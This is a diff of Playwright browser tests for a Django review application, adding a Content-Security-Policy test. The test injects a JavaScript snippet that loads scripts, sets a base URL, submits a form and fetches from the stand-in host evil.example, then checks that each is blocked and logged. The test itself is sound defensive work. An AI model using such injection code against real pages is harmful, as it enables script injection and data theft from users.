@@ -1,16 +1,17 @@
 """The desk in a real browser: by keyboard, without script, two people at once, and what a page may never do."""
 
+from collections.abc import Iterator
 from datetime import datetime, timedelta
-from typing import Any
 
 import pytest
 from axe_playwright_python.base import AXE_SCRIPT
 from playwright.sync_api import Page, expect
 
 from reviews.models import Approval, Review
-from tests.browser.conftest import SignIn, press
+from tests.browser.conftest import SignIn, enter, press
 from tests.cast import Cast, bill, waiting_bill
 from tests.desk import case_url
+from tests.servers import wait_for
 
 pytestmark = pytest.mark.django_db(transaction=True)
 SIZES = ((1440, 900), (1024, 768), (390, 844))
@@ -21,8 +22,8 @@ RULES = {
 }
 
 
-def test_a_person_signs_in_with_name_and_password(everybody: Cast, page: Page, live_server: Any) -> None:
-    page.goto(f"{live_server.url}/runs/")
+def test_a_person_signs_in_with_name_and_password(everybody: Cast, site: str, page: Page) -> None:
+    page.goto(f"{site}/runs/")
     page.get_by_label("User name").fill("clerk")
     page.get_by_label("Password").fill("known")
     page.get_by_role("button", name="Sign in").click()
@@ -112,7 +113,7 @@ def test_everything_needed_works_without_script(everybody: Cast, sign_in: SignIn
     page = sign_in("clerk", java_script_enabled=False)
     page.get_by_role("button", name="Start reviewing").click()
     expect(page.get_by_role("heading", level=1)).to_have_text(first.title)
-    page.locator("#diff").get_by_text("90.00", exact=True).click()
+    page.locator("#diff").get_by_role("radio", name="90.00").check()
     page.get_by_role("button", name="Save the draft and show what follows").click()
     expect(page.locator("#settled")).to_have_text("1 of 1 settled")
     page.get_by_role("radio", name="Approve").check()
@@ -154,6 +155,30 @@ def test_the_run_page_changes_without_reloading_when_the_run_does(everybody: Cas
     expect(page.get_by_role("complementary")).to_contain_text("cast.vendor")
 
 
+SLIPPED_IN = """() => {
+  const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
+  add('script', { textContent: 'window.ran = 1' });
+  add('script', { src: 'https://evil.example/script.js' });
+  add('base', { href: 'https://evil.example/' });
+  add('img', { src: 'https://evil.example/picture.png' });
+  add('form', { action: 'https://evil.example/form', id: 'sent' });
+  document.body.insertAdjacentHTML('beforeend', '<p onclick="window.ran = 1" id="pressed">');
+  document.querySelector('#pressed').click(); document.querySelector('#sent').submit();
+  fetch('https://evil.example/fetched').catch(() => 0);
+}"""
+
+
+def test_u20_what_was_slipped_into_a_page_is_blocked_and_told(
+    everybody: Cast, site: str, page: Page, caplog: pytest.LogCaptureFixture
+) -> None:
+    enter(page.context, "clerk", site)
+    page.goto(f"{site}/queue/")
+    page.evaluate(SLIPPED_IN)
+    blocked = ("script-src-elem", "script-src-attr", "base-uri", "img-src", "form-action", "connect-src")
+    wait_for(lambda: all(f"{part!r} has blocked" in caplog.text for part in blocked), 10, "not all of it was told")
+    assert page.evaluate("[typeof ran, document.baseURI]") == ["undefined", f"{site}/queue/"]
+
+
 @pytest.mark.slow
 def test_no_page_breaks_an_accessibility_rule_at_any_width_in_either_theme(everybody: Cast, sign_in: SignIn) -> None:
     review = waiting_bill(everybody)
@@ -162,12 +187,18 @@ def test_no_page_breaks_an_accessibility_rule_at_any_width_in_either_theme(every
     found = []
     for theme in THEMES:
         page = sign_in("clerk", color_scheme=theme)
-        for width, height in SIZES:
-            page.set_viewport_size({"width": width, "height": height})
-            for address in pages:
-                page.goto(address)
+        for address in pages:
+            page.goto(address)
+            for width in widths(page):
                 found += violations(page, f"{address} {width} {theme}")
     assert found == []
+
+
+def widths(page: Page) -> Iterator[int]:
+    """The page at one size after the other; it looks as if it had been loaded at it."""
+    for width, height in SIZES:
+        page.set_viewport_size({"width": width, "height": height})
+        yield width
 
 
 def violations(page: Page, where: str) -> list[str]:
